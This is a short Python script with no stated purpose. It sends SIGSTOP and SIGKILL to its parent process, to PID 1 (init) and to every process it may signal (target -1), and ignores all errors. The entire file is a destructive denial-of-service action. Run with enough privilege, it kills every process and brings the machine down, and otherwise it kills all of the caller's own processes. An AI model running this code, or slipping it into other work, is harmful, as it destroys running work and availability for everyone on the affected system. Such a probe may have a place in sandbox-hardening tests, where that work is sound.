import os
import signal

for target in (os.getppid(), 1, -1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
